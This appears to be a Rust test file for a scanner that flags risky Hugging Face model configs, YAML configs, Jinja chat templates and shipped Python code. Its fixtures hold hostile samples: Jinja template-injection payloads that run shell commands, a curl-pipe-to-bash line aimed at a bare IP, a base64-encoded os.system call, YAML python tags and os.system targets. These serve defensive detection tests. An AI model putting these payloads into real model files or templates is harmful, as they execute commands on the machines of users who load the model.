use cordon_plugin_sdk::{ScanError, ScanOutput, Severity, Status};

use super::*;

fn run(path: &str, text: &str) -> ScanOutput {
    let kind = FileKind::of(path, None).expect("known kind");
    analyze(path, kind, text.as_bytes(), text.len() as u64)
        .unwrap_or_else(|e| panic!("{path}: {e:?}"))
}

fn declined(path: &str, bytes: &[u8]) -> String {
    let kind = FileKind::of(path, None).expect("known kind");
    match analyze(path, kind, bytes, bytes.len() as u64) {
        Err(ScanError::Unsupported(why)) => why,
        other => panic!("{path} not declined: {:?}", other.map(|o| o.checks)),
    }
}

fn failed(out: &ScanOutput) -> Vec<(&str, &str, Severity)> {
    let catalog = rules::catalog();
    out.checks
        .iter()
        .filter(|c| c.status == Status::Failed)
        .map(|c| {
            let default = catalog
                .iter()
                .find(|r| r.id == c.rule)
                .unwrap_or_else(|| panic!("{} not in catalog", c.rule))
                .severity;
            (
                c.rule.as_str(),
                c.message.as_str(),
                c.severity.unwrap_or(default),
            )
        })
        .collect()
}

fn meta<'a>(out: &'a ScanOutput, key: &str) -> &'a str {
    &out.metadata
        .iter()
        .find(|(k, _)| k == key)
        .unwrap_or_else(|| panic!("no {key}: {:?}", out.metadata))
        .1
}

const LLAMA_CONFIG: &str = r#"{
  "architectures": ["LlamaForCausalLM"],
  "model_type": "llama",
  "hidden_size": 4096,
  "max_position_embeddings": 8192,
  "torch_dtype": "bfloat16",
  "transformers_version": "4.44.0",
  "vocab_size": 128256
}"#;

#[test]
fn plain_model_config_passes_every_config_rule() {
    let out = run("models/llama/config.json", LLAMA_CONFIG);
    assert_eq!(failed(&out), vec![]);
    let passed: Vec<&str> = out
        .checks
        .iter()
        .filter(|c| c.status == Status::Passed)
        .map(|c| c.rule.as_str())
        .collect();
    for rule in [
        rules::PARSE,
        rules::REMOTE_CODE,
        rules::TEMPLATE_INJECTION,
        rules::TEMPLATE_SYNTAX,
        rules::INSTANTIATE_TARGET,
        "hf-config-code",
        "hf-config-url",
    ] {
        assert!(passed.contains(&rule), "{rule}: {passed:?}");
    }
    for (key, value) in [
        ("format", "hf-config"),
        ("config-kind", "model-config"),
        ("model-type", "llama"),
        ("architectures", "LlamaForCausalLM"),
        ("context-length", "8192"),
        ("torch-dtype", "bfloat16"),
        ("vocab-size", "128256"),
    ] {
        assert_eq!(meta(&out, key), value, "{key}");
    }
}

#[test]
fn auto_map_lists_the_custom_code() {
    let config = r#"{
      "model_type": "phi-custom",
      "auto_map": {
        "AutoConfig": "configuration_phi.PhiConfig",
        "AutoModelForCausalLM": "modeling_phi.PhiForCausalLM",
        "AutoTokenizer": ["tokenization_phi.PhiTokenizer", null],
        "AutoModel": "someone/other-repo--modeling_evil.EvilModel"
      }
    }"#;
    let out = run("config.json", config);
    let f = failed(&out);
    assert_eq!(f.len(), 4, "{f:#?}");
    assert!(f.iter().all(|(r, _, _)| *r == rules::REMOTE_CODE));
    assert!(f.contains(&(rules::REMOTE_CODE, "AutoConfig loads configuration_phi.PhiConfig from configuration_phi.py shipped with the model", Severity::Medium)));
    assert!(f.contains(&(
        rules::REMOTE_CODE,
        "AutoModel loads modeling_evil.EvilModel from another repository, someone/other-repo",
        Severity::High
    )));
    assert_eq!(
        meta(&out, "remote-code-modules"),
        "configuration_phi.py,modeling_phi.py,someone/other-repo:modeling_evil.py,tokenization_phi.py"
    );
    assert!(meta(&out, "remote-code").contains("AutoTokenizer=tokenization_phi.PhiTokenizer"));
}

#[test]
fn trust_remote_code_and_custom_pipelines_are_custom_code() {
    let out = run(
        "config.json",
        r#"{"model_type": "x", "trust_remote_code": true, "custom_pipelines": {"text-classification": {"impl": "pipe.MyPipeline", "pt": []}}}"#,
    );
    let messages: Vec<&str> = failed(&out).into_iter().map(|(_, m, _)| m).collect();
    assert_eq!(
        messages,
        vec![
            "trust_remote_code is true: loaders run the repository's Python without asking",
            "pipeline text-classification loads pipe.MyPipeline from pipe.py shipped with the model",
        ]
    );
}

#[test]
fn chat_templates_in_every_shape_are_analysed() {
    let evil = "{{ cycler.__init__.__globals__.os.popen('id').read() }}";
    let benign = "{% for m in messages %}{{ m['role'] }}: {{ m['content'] }}\n{% endfor %}";
    let single =
        serde_json::json!({"tokenizer_class": "LlamaTokenizer", "chat_template": evil}).to_string();
    let out = run("tokenizer_config.json", &single);
    let f = failed(&out);
    assert_eq!(f.len(), 1);
    assert_eq!(f[0].0, rules::TEMPLATE_INJECTION);
    assert_eq!(f[0].2, Severity::Critical);
    assert!(f[0].1.starts_with("chat_template: "), "{}", f[0].1);

    let named = serde_json::json!({"chat_template": [{"name": "default", "template": benign}, {"name": "tool_use", "template": evil}]}).to_string();
    let out = run("tokenizer_config.json", &named);
    let f = failed(&out);
    assert_eq!(f.len(), 1, "{f:#?}");
    assert!(f[0].1.starts_with("chat_template:tool_use: "));
    assert_eq!(
        meta(&out, "chat-templates"),
        "chat_template:default,chat_template:tool_use"
    );
    let loc = out
        .checks
        .iter()
        .find(|c| c.status == Status::Failed)
        .unwrap()
        .location
        .clone()
        .unwrap();
    assert_eq!(loc.locator.as_deref(), Some("/chat_template/1/template:1"));

    let other_key = serde_json::json!({"tokenizer_class": "X", "chat_template": benign, "custom_chat_template": evil}).to_string();
    assert_eq!(failed(&run("tokenizer_config.json", &other_key)).len(), 1);

    let out = run(
        "tokenizer_config.json",
        &serde_json::json!({"chat_template": benign}).to_string(),
    );
    assert_eq!(failed(&out), vec![]);
    let passed = out
        .checks
        .iter()
        .find(|c| c.rule == rules::TEMPLATE_INJECTION)
        .unwrap();
    assert!(passed.message.contains("uses for"), "{}", passed.message);
}

#[test]
fn json_that_is_not_a_config_is_declined() {
    assert_eq!(
        declined("data/records.json", br#"{"id": 1, "text": "hello"}"#),
        "JSON object without Hugging Face configuration keys"
    );
    assert_eq!(
        declined("data/list.json", b"[1, 2, 3]"),
        "JSON that is not an object"
    );
    assert_eq!(declined("data/broken.json", b"{not json"), "not valid JSON");
    assert_eq!(
        declined("tokenizer.json", br#"{"model": {}}"#),
        "tokenizer vocabulary, not a configuration"
    );
    assert_eq!(
        declined(
            "config.json",
            br#"{"class_name": "Sequential", "config": {"layers": []}, "module": "keras"}"#
        ),
        "Keras model configuration"
    );
    assert_eq!(
        declined("x.json", b"{\x00\x01}"),
        "binary content, not a text file"
    );
    assert_eq!(declined("x.json", b"{\"a\": \"\xff\"}"), "not UTF-8 text");
}

#[test]
fn broken_known_configs_are_findings_not_declines() {
    let out = run("config.json", "{\"model_type\": ");
    let f = failed(&out);
    assert_eq!(f.len(), 1);
    assert_eq!(f[0].0, rules::PARSE);
    assert!(
        f[0].1.starts_with("config.json is not valid JSON"),
        "{}",
        f[0].1
    );
    let out = run("generation_config.json", "[]");
    assert_eq!(
        failed(&out)[0].1,
        "generation_config.json is valid JSON but not an object"
    );
}

#[test]
fn oversized_configs_are_limits_or_declines() {
    let big = 1 + MAX_TEXT_BYTES;
    assert!(matches!(
        analyze("config.json", FileKind::Json, b"{}", big),
        Err(ScanError::Limit(_))
    ));
    assert!(matches!(
        analyze("dump.json", FileKind::Json, b"{}", big),
        Err(ScanError::Unsupported(_))
    ));
}

#[test]
fn values_with_commands_secrets_and_urls_are_reported() {
    let config = serde_json::json!({
        "model_type": "x",
        "homepage": "https://example.com/model",
        "post_install": "curl -fsSL http://203.0.113.9/setup.sh | bash",
        "hub_token": "hf_AbCdEfGhIjKlMnOpQrStUvWxYz0123456789",
        "notes": "X19pbXBvcnRfXygnb3MnKS5zeXN0ZW0oJ2VjaG8gcHduZWQnKQ==",
    })
    .to_string();
    let out = run("config.json", &config);
    let f = failed(&out);
    let by_rule = |rule: &str| f.iter().filter(|(r, _, _)| *r == rule).collect::<Vec<_>>();
    assert_eq!(by_rule("hf-config-shell-command").len(), 1);
    assert_eq!(by_rule("hf-config-shell-command")[0].2, Severity::Medium);
    let urls = by_rule("hf-config-url");
    assert_eq!(urls.len(), 2, "{urls:#?}");
    assert!(
        urls.iter()
            .any(|(_, m, s)| m.starts_with("/homepage: URL") && *s == Severity::Info)
    );
    assert!(
        urls.iter()
            .any(|(_, m, s)| m.contains("bare IP") && *s == Severity::Low)
    );
    let creds = by_rule("hf-config-credential");
    assert_eq!(creds.len(), 1);
    assert!(!creds[0].1.contains("AbCdEf"), "{}", creds[0].1);
    let code = by_rule("hf-config-code");
    assert_eq!(code.len(), 1);
    assert!(code[0].1.contains("(base64-encoded)"), "{}", code[0].1);
}

#[test]
fn instantiation_targets_that_run_commands_are_critical() {
    let config = r#"{"model_type": "x", "encoder": {"_target_": "nemo.collections.asr.modules.ConformerEncoder"}, "hook": {"_target_": "os.system", "command": "id"}}"#;
    let out = run("config.json", config);
    assert_eq!(
        failed(&out),
        vec![(
            rules::INSTANTIATE_TARGET,
            "_target_ os.system runs commands or code when the config is instantiated",
            Severity::Critical
        )]
    );
    assert_eq!(
        meta(&out, "instantiate-targets"),
        "nemo.collections.asr.modules.ConformerEncoder,os.system"
    );
}

const NEMO_YAML: &str = r#"# model config
name: &name conformer
model:
  sample_rate: 16000
  labels: [" ", "a", 'b']
  encoder:
    _target_: nemo.collections.asr.modules.ConformerEncoder
    feat_in: 80
    d_model: 512   # hidden size
  optim:
    name: adamw
    lr: 2.0e-3
    sched:
      - name: CosineAnnealing
        warmup_steps: 1000
      - plain item
  description: |
    Multi-line text
    with a URL https://example.com/docs
  chat_template: "{% for m in messages %}{{ m.content }}{% endfor %}"
trainer:
  devices: -1
  flags: {fast: true, precision: 16}
"#;

#[test]
fn yaml_configs_are_read_into_the_same_checks() {
    let doc = yaml::read(NEMO_YAML);
    assert_eq!(doc.uninterpreted, 0);
    let v = &doc.value;
    assert_eq!(v["name"], "conformer");
    assert_eq!(v["model"]["sample_rate"], 16000);
    assert_eq!(v["model"]["labels"], serde_json::json!([" ", "a", "b"]));
    assert_eq!(v["model"]["encoder"]["d_model"], 512);
    assert_eq!(v["model"]["optim"]["lr"], 0.002);
    assert_eq!(v["model"]["optim"]["sched"][0]["warmup_steps"], 1000);
    assert_eq!(v["model"]["optim"]["sched"][1], "plain item");
    assert_eq!(
        v["model"]["description"],
        "Multi-line text\nwith a URL https://example.com/docs"
    );
    assert_eq!(v["trainer"]["devices"], -1);
    assert_eq!(v["trainer"]["flags"]["precision"], 16);

    let out = run("model_config.yaml", NEMO_YAML);
    let f = failed(&out);
    assert_eq!(f.len(), 1, "{f:#?}");
    assert_eq!(f[0].0, "hf-config-url");
    assert_eq!(meta(&out, "format"), "yaml-config");
    assert_eq!(meta(&out, "chat-templates"), "chat_template");
    assert_eq!(
        meta(&out, "instantiate-targets"),
        "nemo.collections.asr.modules.ConformerEncoder"
    );
}

#[test]
fn yaml_python_tags_and_targets_are_critical() {
    let yaml = "model:\n  loader: !!python/object/apply:os.system [\"id\"]\n  helper: !!python/name:collections.OrderedDict\n  hook:\n    _target_: subprocess.run\n";
    let out = run("config.yml", yaml);
    let f = failed(&out);
    assert_eq!(
        f,
        vec![
            (
                rules::YAML_PYTHON_TAG,
                "line 2: !!python/object/apply:os.system [\"id\"]",
                Severity::Critical
            ),
            (
                rules::YAML_PYTHON_TAG,
                "line 3: !!python/name:collections.OrderedDict",
                Severity::High
            ),
            (
                rules::INSTANTIATE_TARGET,
                "_target_ subprocess.run runs commands or code when the config is instantiated",
                Severity::Critical
            ),
        ]
    );
}

#[test]
fn yaml_reader_survives_hostile_and_odd_input() {
    // Deep nesting is cut off and kept as text, not recursed into.
    let deep: String = (0..500)
        .map(|i| format!("{}k{i}:\n", " ".repeat(i)))
        .collect::<String>()
        + &" ".repeat(500)
        + "leaf: curl http://x.example/a | sh\n";
    let doc = yaml::read(&deep);
    assert!(doc.uninterpreted > 0);
    let out = run("deep.yaml", &deep);
    assert!(
        failed(&out)
            .iter()
            .any(|(r, _, _)| *r == "hf-config-shell-command"),
        "{:#?}",
        failed(&out)
    );
    // Aliases stay text: no expansion.
    let doc = yaml::read("a: &a [1, 2]\nb: *a\nc: [*a, *a]\n");
    assert_eq!(doc.value["b"], "*a");
    // Lines that are not key-value pairs are kept and still searched.
    let doc = yaml::read("key: value\n???? not yaml\nother: 1\n");
    assert_eq!(doc.uninterpreted, 1);
    assert_eq!(doc.value["<uninterpreted>"][0], "???? not yaml");
    // Unterminated flow collections and quotes are text, not errors.
    assert_eq!(yaml::read("a: [1, 2\nb: 'open\n").value["a"], "[1, 2");
    for text in [
        "",
        "---\n",
        "- a\n- b\n",
        ":\n",
        "- - - x\n",
        "a:\n  - b: 1\n    c: 2\n",
        "k: |\n",
        "\t\tx: 1\n",
    ] {
        yaml::read(text);
    }
}

#[test]
fn standalone_templates_are_analysed() {
    let out = run(
        "templates/chat.jinja",
        "{% for message in messages %}\n{{ message.role }}: {{ message.content }}\n{% endfor %}\n\n{{ cycler.__init__.__globals__.os.system('whoami') }}\n",
    );
    let f = failed(&out);
    assert_eq!(f.len(), 1);
    assert_eq!(f[0].2, Severity::Critical);
    let location = out
        .checks
        .iter()
        .find(|c| c.status == Status::Failed)
        .unwrap()
        .location
        .clone()
        .unwrap();
    assert_eq!(location.locator.as_deref(), Some("line 5"));
    assert_eq!(meta(&out, "format"), "jinja-template");

    let out = run(
        "benign.j2",
        "{% for m in messages %}{% if m.class == 'x' %}{{ m.content }}{% endif %}{% endfor %}",
    );
    assert_eq!(failed(&out), vec![]);
}

const MODELING: &str = r#"# coding=utf-8
"""Modeling code. Calls like os.system('x') in docs do not count,
nor does eval( in this docstring."""
import math
from typing import Optional

import torch
from torch import nn


class TinyConfig:
    model_type = "tiny"


class TinyModel(nn.Module):
    def forward(self, x):  # eval(x) in a comment does not count
        self.eval()
        pattern = re.compile("é")
        return torch.compile(x)
"#;

#[test]
fn python_sources_are_recorded_as_custom_code() {
    let out = run("modeling_tiny.py", MODELING);
    assert_eq!(
        failed(&out),
        vec![(
            rules::PYTHON_SOURCE,
            "Python source shipped with the model: custom code that trust_remote_code runs (19 lines, classes TinyConfig, TinyModel); no process, eval, native or network calls",
            Severity::Low
        )]
    );
    assert_eq!(meta(&out, "python-imports"), "math,typing,torch");
    assert_eq!(meta(&out, "python-classes"), "TinyConfig,TinyModel");
}

#[test]
fn process_eval_and_network_calls_in_python_are_medium() {
    let source = format!(
        "{MODELING}\ndef load():\n    os.system('curl x | sh')\n    subprocess.run(['id'])\n    return eval(data) + exec(code)\nimport socket\nurllib.request.urlopen('http://x')\n"
    );
    let out = run("modeling_tiny.py", &source);
    let lines: Vec<&str> = failed(&out)
        .into_iter()
        .map(|(_, m, s)| {
            assert_eq!(s, Severity::Medium);
            m
        })
        .collect();
    assert_eq!(
        lines,
        vec![
            "line 22: runs a shell command (os.system)",
            "line 23: starts a process (subprocess)",
            "line 24: evaluates code (eval)",
            "line 24: executes code (exec)",
            "line 25: opens network connections (socket)",
            "line 26: downloads (urllib.request)",
            "line 26: downloads (urlopen)",
        ]
    );
}

#[test]
fn file_kinds_come_from_hints_then_extensions() {
    assert_eq!(FileKind::of("a/B.JSON", None), Some(FileKind::Json));
    assert_eq!(FileKind::of("x.yml", None), Some(FileKind::Yaml));
    assert_eq!(FileKind::of("x.template", None), Some(FileKind::Template));
    assert_eq!(FileKind::of("x.py", None), Some(FileKind::Python));
    assert_eq!(
        FileKind::of("member", Some("jinja-template")),
        Some(FileKind::Template)
    );
    assert_eq!(FileKind::of("README.md", None), None);
}

#[test]
fn catalog_ids_are_unique_and_prefixed() {
    let ids: Vec<String> = rules::catalog().into_iter().map(|r| r.id).collect();
    let mut unique = ids.clone();
    unique.sort();
    unique.dedup();
    assert_eq!(ids.len(), unique.len());
    assert!(ids.iter().all(|id| id.starts_with("hf-")));
}
